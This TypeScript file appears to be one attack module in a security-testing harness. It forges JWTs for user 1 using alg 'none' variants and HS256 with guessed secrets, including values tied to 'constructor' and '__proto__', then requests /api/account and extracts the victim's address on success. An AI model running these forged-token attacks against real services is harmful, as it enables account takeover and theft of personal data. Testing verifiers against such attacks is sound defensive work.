import type { Attack, AttackProgress } from '../../../runtime/attack/attack.ts';
import { makeToken, type Claims } from '../../../runtime/attack/token.ts';

/** Headers that a verifier may believe, and the secret that it may then take: none of them is known. */
const guesses: readonly { header: Claims; secret?: string }[] = [
  { header: { alg: 'none' } },
  { header: { alg: 'none', kid: '2025' } },
  { header: { alg: 'none', kid: 'nobody' } },
  { header: { alg: 'None', kid: 'nobody' } },
  { header: { alg: 'HS256', kid: 'nobody' }, secret: 'undefined' },
  { header: { alg: 'HS256', kid: 'nobody' }, secret: 'secret' },
  { header: { alg: 'HS256', kid: 'constructor' }, secret: 'function Object() { [native code] }' },
  { header: { alg: 'HS256', kid: '__proto__' }, secret: '[object Object]' },
];

/** Writes tokens in the name of user 1, without knowing any key, until one opens the account. */
const attack: Attack = async function* (send) {
  const now = Math.floor(Date.now() / 1000);
  const claims = { sub: '1', aud: 'shop', iat: now, exp: now + 600 };
  let requests = 0;
  const progress = (step: string, stolen = ''): AttackProgress => ({
    requests,
    stolen,
    length: stolen.length,
    step,
  });

  for (const { header, secret } of guesses) {
    const token = await makeToken(header, claims, secret);
    const { status, body } = await send({
      method: 'GET',
      path: '/api/account',
      headers: { authorization: `Bearer ${token}` },
    });
    requests += 1;
    const signature = secret === undefined ? 'no signature' : 'a guessed key';
    const step = `A token with the header ${JSON.stringify(header)} and ${signature}`;
    if (status === 200) {
      const address = /"address":"([^"]+)"/.exec(body)?.[1] ?? body;
      return { ...progress(`${step} opened the account of user 1`, address), outcome: 'succeeded' };
    }
    yield progress(`${step} was refused`);
  }
  return { ...progress('Every forged token was refused'), outcome: 'repelled' };
};

export default attack;
